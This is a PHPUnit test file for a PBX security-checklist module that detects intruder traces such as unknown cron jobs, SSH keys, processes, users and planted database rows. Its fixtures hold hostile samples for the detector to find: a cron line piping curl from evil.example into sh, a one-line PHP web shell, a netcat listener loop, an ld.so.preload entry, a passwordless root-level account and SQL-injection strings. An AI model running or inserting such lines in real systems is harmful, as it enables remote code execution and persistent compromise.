<?php

declare(strict_types=1);

namespace Modules\ModuleSecurityChecklist\Test\Traces;

use Modules\ModuleSecurityChecklist\Lib\Traces\Kinds;
use Modules\ModuleSecurityChecklist\Test\Support\TracesWorld;
use PDO;
use PHPUnit\Framework\TestCase;

/**
 * What is planted is found, each with when it came; what was there all the time is not said to be new.
 */
final class ReadingTest extends TestCase
{
    private TracesWorld $world;

    protected function setUp(): void
    {
        $this->world = new TracesWorld();
    }

    protected function tearDown(): void
    {
        $this->world->remove();
    }

    public function testEveryKindIsRead(): void
    {
        $kinds = $this->world->reading()->traces()['kinds'];
        self::assertSame(Kinds::ALL, array_keys($kinds));
        $unknown = array_filter($kinds, static function (array $kind): bool {
            return isset($kind['unknown']);
        });
        self::assertSame(['cabinet-users' => ['unknown' => 'not-supported', 'detail' => '']], $unknown);
    }

    public function testAQuietSystemHasNothingThatNobodyKnows(): void
    {
        foreach ([Kinds::CORE_FILES, Kinds::PROCESSES, Kinds::SYSTEM_USERS, Kinds::SSH_KEYS, Kinds::CUSTOM_FILES] as $kind) {
            self::assertSame([], $this->world->items($kind), $kind);
        }
        self::assertSame(['core', 'core', 'core', 'ModuleSecurityChecklist'], $this->column(Kinds::CRON, 'of'));
        self::assertSame(array_fill(0, count($this->world->items(Kinds::MODULES)), 'settings'), $this->column(Kinds::MODULES, 'place'));
    }

    public function testWhatWasInTheOldestCopyIsAsOldAsThatAtLeast(): void
    {
        $time = $this->world->copy(20);
        $this->world->copy(3);
        foreach ([Kinds::AMI_USERS, Kinds::PROVIDERS, Kinds::OUTBOUND_ROUTES] as $kind) {
            $items = $this->world->items($kind);
            self::assertNotSame([], $items, $kind);
            foreach ($items as $item) {
                self::assertSame([null, $time, 'copies', false], [$item['absent'], $item['present'], $item['by'], $item['former']], $kind);
            }
        }
    }

    /**
     * @dataProvider plantedRows
     */
    public function testWhatCameBetweenTwoCopiesHasThemAsItsBounds(string $kind, string $sql, string $name, string $value): void
    {
        $this->world->copy(20);
        $without = $this->world->copy(5);
        $this->world->core->exec($sql);
        $with = $this->world->copy(4, false);
        $this->world->copy(1);
        $found = $this->planted($kind, $name, $value);
        self::assertSame([$without, $with, 'copies', false], [$found['absent'], $found['present'], $found['by'], $found['former']]);
    }

    /**
     * @return array<string, array{string, string, string, string}>
     */
    public function plantedRows(): array
    {
        $hostile = "x''); DROP TABLE <b>\n";
        $shown = "x'); DROP TABLE <b>\n";
        return [
            'AMI' => ['ami-users', "INSERT INTO m_AsteriskManagerUsers (username, secret) VALUES ('$hostile', 's')", 'name', $shown],
            'ARI' => ['ari-users', "INSERT INTO m_AsteriskRestUsers (username, password) VALUES ('support', 's')", 'name', 'support'],
            'provider' => [
                'providers', "INSERT INTO m_Sip (uniqid, type, host, description, disabled) VALUES ('SIP-X', 'friend', 'cheap.example', '$hostile', '0')",
                'name', $shown,
            ],
            'route out' => [
                'outbound-routes', "INSERT INTO m_OutgoingRoutingTable (rulename, providerid, numberbeginswith) VALUES ('z', 'SIP-X', '00')", 'name', 'z',
            ],
            'route in' => [
                'incoming-routes', "INSERT INTO m_IncomingRoutingTable (rulename, number, extension, action) VALUES ('in', '4930', '00252612', 'extension')",
                'target', '00252612',
            ],
            'forward' => ['forwards', "INSERT INTO m_ExtensionForwardingRights (extension, forwarding) VALUES ('201', '00252612')", 'target', '00252612'],
            'custom file' => [
                'custom-files', "INSERT INTO m_CustomFiles (filepath, content, mode) VALUES ('/etc/x.conf', '#!/bin/sh\n\nid''s', 'override')", 'path', '/etc/x.conf',
            ],
            'application' => ['applications', "INSERT INTO m_DialplanApplications (uniqid, name, applicationlogic) VALUES ('A', 'pay', 'x')", 'name', 'pay'],
            'module' => ['modules', "INSERT INTO m_PbxExtensionModules (uniqid, name) VALUES ('ModuleShell', 'Shell')", 'id', 'ModuleShell'],
            'SSH key' => ['ssh-keys', "UPDATE m_PbxSettings SET value = '" . TracesWorld::KEY . " me' WHERE key = 'SSHAuthorizedKeys'", 'comment', 'me'],
            'API key' => ['api-keys', "INSERT INTO m_ApiKeys (description, key_hash, full_permissions) VALUES ('sync', 'h', '1')", 'name', 'sync'],
            'passkey' => ['passkeys', "INSERT INTO m_UserPasskeys (login, credential_id, name) VALUES ('admin', 'c', 'phone')", 'name', 'phone'],
        ];
    }

    public function testARowsOwnDateIsBelievedWhereNothingSaysOtherwise(): void
    {
        $this->world->core->exec("INSERT INTO m_ApiKeys (description, key_hash, created_at) VALUES ('dated', 'h', '2026-11-20 10:00:00')");
        $found = $this->planted(Kinds::API_KEYS, 'name', 'dated');
        self::assertSame('row', $found['by']);
        self::assertSame($found['absent'], $found['present']);
        $this->world->core->exec("UPDATE m_ApiKeys SET created_at = '2020-01-01 00:00:00' WHERE description = 'dated'");
        $this->world->core->exec("DELETE FROM m_ApiKeys WHERE description = 'liar'");
        $time = $this->world->copy(2);
        $this->world->core->exec("INSERT INTO m_ApiKeys (description, key_hash, created_at) VALUES ('liar', 'h', '2020-01-01 00:00:00')");
        $found = $this->planted(Kinds::API_KEYS, 'name', 'liar');
        self::assertSame(['copies', $time], [$found['by'], $found['absent']]);
    }

    public function testWhatBecameSomethingElseSaysSo(): void
    {
        $this->world->core->exec("INSERT INTO m_ExtensionForwardingRights (extension, forwarding) VALUES ('201', '0301234')");
        $time = $this->world->copy(3);
        $this->world->core->exec("UPDATE m_ExtensionForwardingRights SET forwarding = '00252612' WHERE extension = '201'");
        $found = $this->planted(Kinds::FORWARDS, 'target', '00252612');
        self::assertSame([$time, true], [$found['absent'], $found['former']]);
    }

    public function testAForwardToAMobileIsTheNumberThatIsDialled(): void
    {
        $this->world->core->exec("INSERT INTO m_Extensions (number, type) VALUES ('017012', 'EXTERNAL'), ('298', 'SIP')");
        $this->world->core->exec("INSERT INTO m_ExternalPhones (extension, dialstring) VALUES ('017012', '00252612')");
        $this->world->core->exec("INSERT INTO m_ExtensionForwardingRights (extension, forwarding, forwardingonbusy) VALUES ('201', '017012', '298')");
        self::assertSame(['00252612'], $this->column(Kinds::FORWARDS, 'target'));
    }

    public function testWhatTheReleaseBroughtIsKnown(): void
    {
        copy($this->world->path('/core.db'), $this->world->path('/release.db'));
        foreach ($this->world->items(Kinds::AMI_USERS) as $item) {
            self::assertSame([null, 'release'], [$item['absent'], $item['by']]);
        }
    }

    public function testKeysThatOnlyAFileHas(): void
    {
        $this->world->core->exec("UPDATE m_PbxSettings SET value = '" . TracesWorld::KEY . " me' WHERE key = 'SSHAuthorizedKeys'");
        $this->world->write('/root/.ssh/authorized_keys', TracesWorld::KEY . " me\n" . TracesWorld::OTHER_KEY . " <i>\n", -2);
        $this->world->write('/etc/passwd', "root:x:0:0:root:/root:/bin/bash\nwww:x:1011:1011:,,,:/tmp:/bin/bash\n");
        $this->world->write('/tmp/.ssh/authorized_keys', TracesWorld::KEY . " me\n", -1);
        $this->world->copy(1);
        self::assertSame(['settings', 'file', 'file'], $this->column(Kinds::SSH_KEYS, 'place'));
        $found = $this->planted(Kinds::SSH_KEYS, 'comment', '<i>');
        self::assertSame(['file', $found['absent']], [$found['by'], $found['present']]);
    }

    public function testCronThatNobodyKnows(): void
    {
        $line = '* * * * * /bin/sh -c "curl http://user:hunter2@evil.example/x?token=abc | sh"';
        $this->world->write('/var/spool/cron/crontabs/www', "# a\n$line\n*/5 * * * * /sbin/ntpd -q; id\n");
        $this->world->write('/etc/ld.so.preload', "/tmp/x.so\n");
        $unknown = array_filter($this->world->items(Kinds::CRON), static function (array $item): bool {
            return $item['what']['of'] === '';
        });
        self::assertSame(
            ['* * * * * /bin/sh -c "curl http://user:…@evil.example/x?token=… | sh"', '*/5 * * * * /sbin/ntpd -q; id', '/tmp/x.so'],
            array_values(array_map(static function (array $item): string {
                return $item['what']['line'];
            }, $unknown))
        );
    }

    public function testModulesThatCoreDoesNotKnow(): void
    {
        $this->world->folder(TracesWorld::MODULES . '/ModuleHidden');
        $this->world->copy(1);
        $found = $this->planted(Kinds::MODULES, 'id', 'ModuleHidden');
        self::assertSame(['folder', 'file'], [$found['what']['place'], $found['by']]);
    }

    public function testFilesThatWereWrittenAfterTheRelease(): void
    {
        $this->world->write('/usr/www/src/c.php', '<?php system($_GET[1]);');
        touch($this->world->path('/usr/www/src/c.php'), time() + 2 * 86400);
        self::assertSame(['/usr/www/src/c.php'], $this->column(Kinds::CORE_FILES, 'path'));
    }

    public function testPrograms(): void
    {
        $this->world->process(10, '/usr/sbin/asterisk', 'asterisk -f');
        $this->world->process(11, '/tmp/.x/miner', 'kworker', 77);
        $this->world->process(12, '/usr/bin/redis (deleted)', 'redis');
        $this->world->write('/tmp/a.php', '');
        $this->world->process(13, '/usr/bin/php7.4', 'php -f /tmp/a.php');
        $this->world->write('/tmp/1796086564_noop.sh', "/bin/sleep 600; /bin/true;rm -rf /x; /bin/rm -rf /tmp/1796086564_noop.sh");
        $this->world->process(16, '/bin/busybox', 'sh /tmp/1796086564_noop.sh');
        $this->world->write('/tmp/1796086565_noop.sh', 'while :; do nc -l 4444; done');
        $this->world->process(17, '/bin/busybox', 'sh /tmp/1796086565_noop.sh');
        $this->world->process(14, '/usr/bin/php7.4', 'php -f /usr/www/src/x.php /tmp/b.php');
        $this->world->process(15, TracesWorld::MODULES . '/ModuleA/bin/gnatsd (deleted)', 'gnatsd');
        $this->world->write('/proc/net/tcp', "  sl  local_address\n   0: 00000000:115C 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 77 1\n");
        $items = $this->world->items(Kinds::PROCESSES);
        self::assertSame(
            [['/tmp/.x/miner', '', '', '4444'], ['/usr/bin/redis', '', 'yes', ''], ['/usr/bin/php7.4', '/tmp/a.php', '', ''], ['/bin/busybox', '/tmp/1796086565_noop.sh', '', '']],
            array_map(static function (array $item): array {
                ['program' => $program, 'script' => $script, 'gone' => $gone, 'ports' => $ports] = $item['what'];
                return [$program, $script, $gone, $ports];
            }, $items)
        );
    }

    public function testUsersOfTheSystem(): void
    {
        $this->world->write('/etc/passwd', "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\ngames:x:5:5::/:/bin/sh\nme:x:9:9::/:/bin/sh\n");
        $this->world->write('/etc/shadow', "root:\$6\$a:\ntoor::\ngames:!:\nme:\$6\$x:\n");
        self::assertSame(['toor', 'me'], $this->column(Kinds::SYSTEM_USERS, 'name'));
    }

    public function testUsersOfTheCabinetWhereAModuleHasThem(): void
    {
        $this->world->core->exec("INSERT INTO m_PbxExtensionModules (uniqid, name) VALUES ('ModuleUsersUI', 'Users')");
        $this->world->folder(TracesWorld::MODULES . '/ModuleUsersUI/db');
        $pdo = new PDO('sqlite:' . $this->world->path(TracesWorld::MODULES . '/ModuleUsersUI/db/module.db'));
        $pdo->exec('CREATE TABLE m_ModuleUsersUI_UsersCredentials (id INTEGER, user_login TEXT, user_password TEXT, user_access_group_id INTEGER, enabled INTEGER)');
        $pdo->exec('CREATE TABLE m_ModuleUsersUI_AccessGroups (id INTEGER, name TEXT)');
        $pdo->exec("INSERT INTO m_ModuleUsersUI_UsersCredentials VALUES (1, 'eve', 'h', 7, 1), (2, 'off', 'h', 7, 0)");
        $pdo->exec("INSERT INTO m_ModuleUsersUI_AccessGroups VALUES (7, 'Full')");
        self::assertSame([['login' => 'eve', 'group' => 'Full']], array_column($this->world->items(Kinds::CABINET_USERS), 'what'));
    }

    public function testNoSecretIsTold(): void
    {
        $this->world->core->exec("INSERT INTO m_AsteriskManagerUsers (username, secret) VALUES ('a', 'planted-secret')");
        $this->world->core->exec("INSERT INTO m_CustomFiles (filepath, content, mode) VALUES ('/etc/a', 'planted-secret', 'append')");
        $this->world->core->exec("INSERT INTO m_ApiKeys (description, key_hash) VALUES ('a', 'planted-secret')");
        self::assertStringNotContainsString('planted-secret', (string) json_encode($this->world->reading()->traces()));
    }

    public function testADatabaseThatCannotBeReadIsNoQuietOne(): void
    {
        unlink($this->world->path('/core.db'));
        foreach ($this->world->reading()->traces()['kinds'] as $kind) {
            self::assertSame('missing', $kind['unknown'] ?? '');
        }
    }

    public function testADamagedCopyIsPassedOver(): void
    {
        $this->world->copy(3);
        $this->world->write('/copies/day/2026-11-01_mikopbx.db.gz', 'no gzip');
        $this->world->write('/copies/day/2026-11-02_mikopbx.db.gz', (string) gzencode("CREATE TABLE m_ApiKeys (id\nINSERT INTO m_ApiKeys VALUES('"));
        self::assertSame(1, $this->world->reading()->traces()['copies']['count']);
    }

    /**
     * @return list<string>
     */
    private function column(string $kind, string $name): array
    {
        return array_map(static function (array $item) use ($name): string {
            return $item['what'][$name];
        }, $this->world->items($kind));
    }

    /**
     * @return array{id: string, print: string, what: array<string, string>, absent: int|null, present: int, by: string, former: bool}
     */
    private function planted(string $kind, string $name, string $value): array
    {
        $found = array_filter($this->world->items($kind), static function (array $item) use ($name, $value): bool {
            return $item['what'][$name] === $value;
        });
        self::assertCount(1, $found, "$kind $value");
        return array_values($found)[0];
    }
}
